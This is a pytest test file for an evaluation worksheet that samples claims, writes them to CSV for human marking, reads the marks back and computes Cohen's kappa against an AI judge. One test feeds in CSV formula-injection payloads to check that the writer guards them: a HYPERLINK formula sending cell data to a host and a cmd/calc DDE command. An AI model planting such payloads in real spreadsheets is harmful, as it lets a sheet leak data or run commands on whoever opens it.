"""`evaluation.worksheet`: a sheet that survives a spreadsheet and a person, and how far that person agrees with a model."""

import csv
import io
import warnings
from collections import Counter
from collections.abc import Callable, Sequence
from itertools import product
from math import isnan
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy as np
import pytest
from hypothesis import given as whatever
from hypothesis import strategies as st
from sklearn.metrics import cohen_kappa_score

from evaluation.replies_made import a_case, a_given, a_source
from rights_assistant.errors import CaseError
from rights_assistant.evaluation.judge import MARKS, Claim, Judged, Verdict
from rights_assistant.evaluation.score import draws
from rights_assistant.evaluation.worksheet import COLUMNS, Marked, agreement, guarded, read, sample, write

S, P, U = MARKS
LETTERS = {"s": S, "p": P, "u": U, "?": Verdict.UNREADABLE}
FORMULA = tuple("=+-@＝＋－＠")


def a_claim(text: str = "An officer decides.", number: int = 1, id: str = "ca-1", slices: tuple[str, ...] = ("ca",)) -> Claim:
    """A claim that rests on IRPA 72."""
    return Claim(a_case(id=id, slices=slices, turns=("I am in Canada.",)), number, text, a_given().sources)


LISTS = "It is “final”, they say: " + ", ".join(f"§ {n}" for n in range(60))
"""More commas than a small sheet has cells."""
THREE = [a_claim("An officer decides."), a_claim("You have 15 days; ask today.", 2), a_claim(LISTS, 1, "de-1")]


# --- the sample ---


def of_slices(**sizes: int) -> list[Claim]:
    """Claims of some slices, one claim an answer, dealt out in turn."""
    left, dealt = dict(sizes), []
    while any(left.values()):
        for name in [n for n, many in left.items() if many]:
            dealt.append(a_claim(id=f"{name}-{left[name]}", slices=(name, "everything")))
            left[name] -= 1
    return dealt


def shares(chosen: Sequence[Claim]) -> dict[str, int]:
    """How many of each main slice."""
    return dict(Counter(c.case.slices[0] if c.case.slices else "" for c in chosen))


@pytest.mark.parametrize(
    ("sizes", "size", "expected"),
    [
        pytest.param({"a": 60, "b": 30, "c": 10}, 50, {"a": 30, "b": 15, "c": 5}, id="halves"),
        pytest.param({"a": 97, "b": 2, "c": 1}, 10, {"a": 8, "b": 1, "c": 1}, id="the small ones are not passed over"),
        pytest.param({"a": 5, "b": 5, "c": 5}, 4, {"a": 2, "b": 1, "c": 1}, id="what cannot be shared goes by name"),
        pytest.param({"a": 1, "b": 1, "c": 8}, 2, {"c": 2}, id="too few for every slice"),
        pytest.param({"a": 3, "b": 1}, 4, {"a": 3, "b": 1}, id="all of them"),
        pytest.param({"a": 3, "b": 1}, 900, {"a": 3, "b": 1}, id="more than there are"),
    ],
)
def test_the_shares_of_the_slices(sizes: dict[str, int], size: int, expected: dict[str, int]) -> None:
    """Has each main slice its share of the sample?"""
    assert shares(sample(of_slices(**sizes), size)) == expected


@whatever(st.dictionaries(st.sampled_from("abcdefg"), st.integers(1, 40), min_size=1), st.integers(1, 150))
def test_any_sample(sizes: dict[str, int], size: int) -> None:
    """For any run: is the sample of the size asked for, in order, without repeats, and fair within one claim?"""
    everything = of_slices(**sizes)
    chosen = sample(everything, size)
    assert len(chosen) == min(size, len(everything))
    places = [everything.index(c) for c in chosen]
    assert places == sorted(set(places))
    assert chosen == sample(everything, size)
    if len(sizes) <= size < len(everything):
        spare, whole = size - len(sizes), len(everything) - len(sizes)
        for name, many in shares(chosen).items():
            assert abs(many - 1 - (sizes[name] - 1) * spare / whole) < 1
        assert set(shares(chosen)) == set(sizes)


def test_the_sample_is_drawn() -> None:
    """Is it not simply the beginning of the run?"""
    assert sample(of_slices(a=100), 10) != of_slices(a=100)[:10]


def test_claims_without_a_slice() -> None:
    """Do questions without a slice have a share too?"""
    nowhere = [a_claim(id=f"x-{n}", slices=()) for n in range(10)]
    assert shares(sample([*of_slices(a=10), *nowhere], 10)) == {"a": 5, "": 5}


# --- the sheet as it is written ---


def written(claims: Sequence[Claim], folder: Path) -> list[dict[str, str]]:
    """The rows of a sheet as a spreadsheet reads them."""
    write(claims, folder / "sheet.csv")
    return list(csv.DictReader(io.StringIO((folder / "sheet.csv").read_bytes().decode("utf-8-sig"), newline="")))


def test_the_sheet(tmp_path: Path) -> None:
    """Does a row hold all that a person needs, and nothing of what a model said?"""
    first, *_ = rows = written(THREE, tmp_path / "new" / "folder")
    assert first == {
        "case id": "ca-1",
        "question": "I am in Canada. / Can a computer refuse my visa?",
        "claim number": "1",
        "claim": "An officer decides.",
        "quotes": "[1] You have 15 days if the matter arose in Canada.",
        "source ids": "ca/irpa/s-72",
        "mark": "",
        "note": "",
    }
    assert list(first) == list(COLUMNS)
    assert [r["claim"] for r in rows] == [c.text for c in THREE]
    assert (tmp_path / "new" / "folder" / "sheet.csv").read_bytes().startswith(b"\xef\xbb\xbfcase id,")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('=HYPERLINK("https://example.org/?"&A1,"Click")', id="a link that sends the sheet away"),
        pytest.param("+1+cmd|' /C calc'!A0", id="a command"),
        pytest.param("-2+3", id="a sum that begins with a minus"),
        pytest.param("@SUM(1+1)", id="an old function sign"),
        pytest.param("\t=1+1", id="behind a tab"),
        pytest.param("\r\n =1+1", id="behind a line break"),
        pytest.param("\u00a0=1+1", id="behind a space that does not break"),
        pytest.param("＝1+1", id="a wide sign, which some read as the plain one"),
    ],
)
def test_no_cell_is_a_formula(tmp_path: Path, text: str) -> None:
    """Is every cell that could run in a spreadsheet made plain text, and read back as what it was?"""
    source = a_given(citations=[a_source(1, title=text, quote=text)]).sources
    claim = Claim(a_case(id=text, question=text, turns=()), 1, text, source)
    [row] = written([claim], tmp_path)
    assert not [cell for cell in row.values() if cell.startswith((*FORMULA, "\t", "\r"))]
    assert row["claim"] == f"'{' '.join(text.split())}"
    assert read(tmp_path / "sheet.csv", [Claim(a_case(id=" ".join(text.split())), 1, text, source)])[0].mark is None


@whatever(st.text(st.characters() | st.sampled_from("=+-@'\n\t \";,"), max_size=40))
def test_any_claim_can_be_written_and_read(text: str) -> None:
    """Whatever a claim says: is its cell no formula, on one line, and its row found again?"""
    assert not guarded(text).startswith(FORMULA)
    assert len(guarded(text).splitlines()) <= 1
    claim = a_claim(text.encode("utf-8", "replace").decode())
    with TemporaryDirectory() as folder:
        write([claim], Path(folder) / "sheet.csv")
        assert read(Path(folder) / "sheet.csv", [claim]) == [Marked("ca-1", 1, None, "")]


def test_a_sheet_that_cannot_be_written(tmp_path: Path) -> None:
    """Is a place that cannot hold the sheet named?"""
    (tmp_path / "file").write_text("", "utf-8")
    with pytest.raises(CaseError, match="cannot be written") as raised:
        write(THREE, tmp_path / "file" / "sheet.csv")
    assert "--out" in raised.value.remedy


# --- the sheet as it comes back ---


def filled(folder: Path, *marks: str, change: Callable[[list[list[str]]], object] = lambda rows: None) -> list[list[str]]:
    """The rows of a sheet of three claims, marked, and changed as a person or a spreadsheet would."""
    write(THREE, folder / "sheet.csv")
    rows = list(csv.reader(io.StringIO((folder / "sheet.csv").read_bytes().decode("utf-8-sig"), newline="")))
    for row, mark in zip(rows[1:], marks, strict=False):
        row[COLUMNS.index("mark")] = mark
    change(rows)
    return rows


def saved(folder: Path, rows: Sequence[Sequence[str]], encoding: str = "utf-8-sig", **form: object) -> Path:
    """The rows saved in one of the ways that spreadsheets save CSV."""
    text = io.StringIO(newline="")
    csv.writer(text, **form).writerows(rows)  # type: ignore[arg-type]
    (folder / "sheet.csv").write_bytes(text.getvalue().encode(encoding))
    return folder / "sheet.csv"


@pytest.mark.parametrize(
    ("encoding", "form"),
    [
        pytest.param("utf-8-sig", {}, id="as it was written"),
        pytest.param("utf-8", {"lineterminator": "\n"}, id="no byte order mark"),
        pytest.param("utf-8-sig", {"delimiter": ";"}, id="a comma is for decimals: parted by semicolons"),
        pytest.param("utf-8-sig", {"delimiter": "\t"}, id="parted by tabs"),
        pytest.param("utf-8", {"quoting": csv.QUOTE_ALL}, id="every cell in quotes"),
        pytest.param("utf-8-sig", {"lineterminator": "\r", "delimiter": ";"}, id="lines ended as on an old Mac"),
    ],
)
def test_however_a_spreadsheet_saves_it(tmp_path: Path, encoding: str, form: dict[str, object]) -> None:
    """Are the marks read however the sheet was saved?"""
    path = saved(tmp_path, filled(tmp_path, "supported", "partly", ""), encoding, **form)
    assert read(path, THREE) == [Marked("ca-1", 1, S, ""), Marked("ca-1", 2, P, ""), Marked("de-1", 1, None, "")]


def _note(rows: list[list[str]]) -> None:
    rows[1][-1] = "  see\n the Act "


TOUCHED = [
    pytest.param(lambda rows: [row.reverse() for row in rows], id="columns in another order"),
    pytest.param(lambda rows: [row.insert(0, "mine") for row in rows], id="a column of one's own"),
    pytest.param(lambda rows: [row.pop(COLUMNS.index("quotes")) for row in rows], id="a column that is only to read removed"),
    pytest.param(lambda rows: rows.__setitem__(0, [f" {c.upper()} " for c in rows[0]]), id="the head in capitals"),
    pytest.param(lambda rows: rows.insert(2, []), id="an empty line"),
    pytest.param(lambda rows: rows.append([" "] * 8), id="a line of blanks at the end"),
    pytest.param(lambda rows: [row.__setitem__(3, f" {row[3]}\n") for row in rows[1:]], id="white space around a claim"),
    pytest.param(lambda rows: rows.insert(1, rows.pop()), id="sorted another way"),
    pytest.param(lambda rows: rows[3].pop(), id="a line that ends early"),
]


@pytest.mark.parametrize("change", TOUCHED)
def test_what_a_person_may_do_to_it(tmp_path: Path, change: Callable[[list[list[str]]], object]) -> None:
    """Is a sheet still read when what identifies its rows is there?"""
    found = read(saved(tmp_path, filled(tmp_path, "supported", "partly", "unsupported", change=change)), THREE)
    assert {m.key: m.mark for m in found} == {("ca-1", 1): S, ("ca-1", 2): P, ("de-1", 1): U}


def test_a_note(tmp_path: Path) -> None:
    """Is a note read on one line, and a row without a mark kept for it?"""
    assert read(saved(tmp_path, filled(tmp_path, change=_note)), THREE)[0] == Marked("ca-1", 1, None, "see the Act")


def test_rows_left_out(tmp_path: Path) -> None:
    """May a person hand in only some of the rows?"""
    assert len(read(saved(tmp_path, filled(tmp_path, "partly")[:2]), THREE)) == 1


@pytest.mark.parametrize(
    "mark", ["Supported", "SUPPORTED", "  supported ", "suppoRTed\n"], ids=["sentence", "capitals", "blanks", "odd"]
)
def test_a_mark_of_odd_case(tmp_path: Path, mark: str) -> None:
    """Is a mark read as a person types it?"""
    assert read(saved(tmp_path, filled(tmp_path, mark)), THREE)[0].mark is S


@pytest.mark.parametrize("claim", ["-15 days from the sending.", "'=1", "＋ 15 days"])
def test_an_apostrophe_that_a_spreadsheet_takes_away(tmp_path: Path, claim: str) -> None:
    """Is a claim that was guarded found again whether its apostrophe is still there or not?"""
    claims = [a_claim(claim)]
    write(claims, tmp_path / "sheet.csv")
    text = (tmp_path / "sheet.csv").read_text("utf-8-sig")
    (tmp_path / "sheet.csv").write_text(text.replace(",'", ","), "utf-8")
    assert "," + claim.lstrip("'") in (tmp_path / "sheet.csv").read_text("utf-8")
    assert len(read(tmp_path / "sheet.csv", claims)) == 1


def _set(line: int, column: str, value: str) -> Callable[[list[list[str]]], None]:
    return lambda rows: rows[line - 1].__setitem__(COLUMNS.index(column), value)


@pytest.mark.parametrize(
    ("change", "says", "remedy"),
    [
        pytest.param(_set(3, "mark", "yes"), "line 3 has the mark 'yes'", "supported, partly, unsupported", id="another word"),
        pytest.param(_set(2, "mark", "unreadable"), "line 2 has the mark 'unreadable'", "Use one of", id="the judge's word"),
        pytest.param(_set(2, "mark", "supported?"), "line 2 has the mark 'supported?'", "leave it empty", id="a doubt"),
        pytest.param(_set(3, "claim", "You have 15 days."), "line 3 has other words", "Make a new sheet", id="a claim changed"),
        pytest.param(_set(4, "claim", ""), "line 4 has other words", "Make a new sheet", id="a claim removed"),
        pytest.param(_set(2, "case id", "ca-9"), "line 2 is about claim '1' of 'ca-9'", "beside the run", id="another case"),
        pytest.param(_set(3, "claim number", "7"), "line 3 is about claim '7'", "beside the run", id="a claim that is not there"),
        pytest.param(_set(3, "claim number", "2.0"), "line 3 is about claim '2.0'", "beside the run", id="a number reformatted"),
        pytest.param(_set(3, "claim number", "9" * 5000), "line 3 is about claim '99", "beside the run", id="an endless number"),
        pytest.param(_set(3, "claim number", "²"), "line 3 is about claim '²'", "beside the run", id="a digit that is no number"),
        pytest.param(lambda rows: rows.append(rows[1]), "line 5 marks a claim that another line", "Remove one", id="a row twice"),
        pytest.param(_set(1, "mark", "verdict"), "line 1 has no column 'mark'", "case id, question", id="a column renamed"),
        pytest.param(_set(1, "note", "Mark"), "line 1 has the column 'mark' twice", "Keep one", id="two columns of marks"),
        pytest.param(lambda rows: rows.pop(0), "line 1 has no column 'case id', 'claim number'", "Keep", id="the head removed"),
    ],
)
def test_a_sheet_that_is_wrong(tmp_path: Path, change: Callable[[list[list[str]]], object], says: str, remedy: str) -> None:
    """Is what is wrong named by the line that a spreadsheet shows, with its mend, rather than passed over?"""
    path = saved(tmp_path, filled(tmp_path, "supported", "partly", "unsupported", change=change))
    with pytest.raises(CaseError) as raised:
        read(path, THREE)
    assert raised.value.problem.startswith(f"{path}: {says}")
    assert remedy in raised.value.remedy


def test_more_than_one_line_is_wrong(tmp_path: Path) -> None:
    """Is the first named, and how many follow?"""
    path = saved(tmp_path, filled(tmp_path, "fine", "well", "partly", change=_set(4, "case id", "xx")))
    with pytest.raises(CaseError, match="line 2 has the mark 'fine'") as raised:
        read(path, THREE)
    assert raised.value.remedy.endswith("(2 more lines are wrong.)")


@pytest.mark.parametrize(
    ("make", "says", "remedy"),
    [
        pytest.param(lambda path: None, "cannot be read", "eval worksheet", id="no file"),
        pytest.param(lambda path: path.mkdir(), "cannot be read", "eval worksheet", id="a folder"),
        pytest.param(lambda path: path.write_bytes(b""), "is empty", "eval worksheet", id="nothing in it"),
        pytest.param(lambda path: path.write_bytes("case id".encode("utf-16")), "not CSV in UTF-8", "CSV, UTF-8", id="UTF-16"),
        pytest.param(lambda path: path.write_bytes("é".encode("cp1252")), "not CSV in UTF-8", "CSV, UTF-8", id="an old code page"),
        pytest.param(lambda path: path.write_text("x" * 200_000), "not CSV in UTF-8", "CSV, UTF-8", id="a cell without an end"),
        pytest.param(lambda path: path.write_bytes(b"PK\x03\x04\0\0"), "line 1 has no column", "Keep", id="a workbook, not CSV"),
    ],
)
def test_a_file_that_is_no_sheet(tmp_path: Path, make: Callable[[Path], object], says: str, remedy: str) -> None:
    """Is a file that cannot be a sheet named, with what to save?"""
    make(tmp_path / "sheet.csv")
    with pytest.raises(CaseError, match=says) as raised:
        read(tmp_path / "sheet.csv", THREE)
    assert remedy in raised.value.remedy


# --- the agreement ---


def pairs(**answers: str) -> tuple[list[Marked], list[Judged]]:
    """Marks and verdicts, an answer a name, a claim two letters: the person's and the judge's; `.` for none."""
    marked, judged = [], []
    for id, text in answers.items():
        for n, (mark, said) in enumerate(map(tuple, text.split()), 1):
            marked.append(Marked(id, n, LETTERS.get(mark), ""))
            if said != ".":
                judged.append(Judged(id, n, LETTERS[said], "", "fake:model", "0"))
    return marked, judged


def test_by_hand() -> None:
    """Are the share, kappa and the table those worked out by hand?"""
    # Of 10 claims 6 are alike. The person says s, p, u to 5, 3, 2, the judge to 6, 2, 2: 0.4 would be alike by chance.
    found = agreement(*pairs(a="ss ss ss ss su", b="ps ps pp", c="up uu"))
    assert found.table == ((4, 0, 1), (2, 1, 0), (0, 1, 1))
    assert (found.compared, found.raw, found.why_not) == (10, 0.6, "")
    assert found.kappa == pytest.approx((0.6 - 0.4) / (1 - 0.4))


def test_rows_that_are_left_out() -> None:
    """Is every row left out counted under its reason, and nothing else changed by it?"""
    whole = agreement(*pairs(a="ss uu su"))
    found = agreement(*pairs(a="ss uu su .s s? p. .. .?"))
    assert (found.unmarked, found.unreadable, found.unjudged) == (3, 1, 1)
    assert (found.compared, found.raw, found.kappa, found.table) == (whole.compared, whole.raw, whole.kappa, whole.table)


def test_verdicts_that_nobody_marked() -> None:
    """Are verdicts on other claims passed over?"""
    marked, judged = pairs(a="ss uu")
    assert agreement(marked, [*judged, Judged("b", 1, U, "", "fake:model", "0")]).compared == 2


@pytest.mark.parametrize(
    ("answers", "compared", "raw", "why"),
    [
        pytest.param({}, 0, None, "0 compared", id="nothing"),
        pytest.param({"a": "ss"}, 1, 1.0, "1 compared", id="a single claim"),
        pytest.param({"a": "ss ss", "b": "ss"}, 3, 1.0, "marks are all 'supported'", id="all alike: undefined"),
        pytest.param({"a": "pu pp"}, 2, 0.5, "marks are all 'partly'", id="the person used one mark: 0 whatever the judge says"),
        pytest.param({"a": "us ss ps"}, 3, 1 / 3, "verdicts are all 'supported'", id="the judge used one"),
    ],
)
def test_no_kappa(answers: dict[str, str], compared: int, raw: float | None, why: str) -> None:
    """Is it said why there is no kappa, rather than a number shown that means nothing?"""
    found = agreement(*pairs(**answers))
    assert (found.compared, found.kappa, found.low, found.high) == (compared, None, None, None)
    assert found.raw == (None if raw is None else pytest.approx(raw))
    assert found.why_not.startswith("not computable: ")
    assert why in found.why_not


def test_one_answer_has_no_interval() -> None:
    """Is no interval made up from the claims of one answer, which stand and fall together?"""
    found = agreement(*pairs(a="ss uu su"))
    assert found.kappa is not None
    assert (found.low, found.high) == (None, None)


def by_formula(table: np.ndarray) -> float:
    """Cohen's kappa from its definition; not a number where chance alone gives every agreement."""
    total = table.sum()
    observed, expected = np.trace(table) / total, (table.sum(axis=0) * table.sum(axis=1)).sum() / total**2
    return float((observed - expected) / (1 - expected)) if expected < 1 else float("nan")


MANY = st.lists(st.sampled_from([a + b for a, b in product("spu", repeat=2)]), min_size=1, max_size=12)


@whatever(MANY)
def test_kappa_is_cohens(found: list[str]) -> None:
    """For any marks: is kappa the one of the definition, and left out just where it is 0 or undefined by its nature?"""
    result = agreement(*pairs(a=" ".join(found)))
    person, judge = [p[0] for p in found], [p[1] for p in found]
    with warnings.catch_warnings(action="ignore"):
        theirs = float(cohen_kappa_score(person, judge, labels=list("spu")))
    if result.kappa is None:
        assert len(found) == 1 or isnan(theirs) or theirs == pytest.approx(0)
    else:
        assert result.kappa == pytest.approx(by_formula(np.array(result.table))) == pytest.approx(theirs)
        assert -1 <= result.kappa <= 1
    if len(found) > 1 and len(set(person)) > 1 and len(set(judge)) > 1:
        assert result.kappa is not None


@whatever(st.lists(st.text("spu", min_size=1, max_size=4), min_size=2, max_size=6))
def test_full_agreement(answers: list[str]) -> None:
    """Is kappa 1, with 1 at both ends of its interval, where all is marked alike and there is more than one mark?"""
    found = agreement(*pairs(**{f"a{n}": " ".join(letter * 2 for letter in letters) for n, letters in enumerate(answers)}))
    if len(set("".join(answers))) > 1:
        assert (found.raw, found.kappa, found.low, found.high) == (1.0, pytest.approx(1), pytest.approx(1), pytest.approx(1))
    else:
        assert found.kappa is None


def test_the_interval_is_drawn_over_answers() -> None:
    """Is it that of the bootstrap spelled out: an answer drawn brings all its claims, undefined resamples passed over?"""
    answers = {"a": "ss ss su", "b": "pp us", "c": "uu", "d": "ss sp pp"}
    found = agreement(*pairs(**answers))
    tables = np.zeros((4, 3, 3))
    for n, text in enumerate(answers.values()):
        for mark, said in map(tuple, text.split()):
            tables[n]["spu".index(mark), "spu".index(said)] += 1
    kappas = [by_formula(sum(times * t for times, t in zip(row, tables, strict=True))) for row in draws(4).tolist()]
    defined = sorted(k for k in kappas if not isnan(k))
    assert len(defined) < len(kappas)
    assert (found.low, found.high) == pytest.approx(tuple(np.percentile(defined, [2.5, 97.5])))
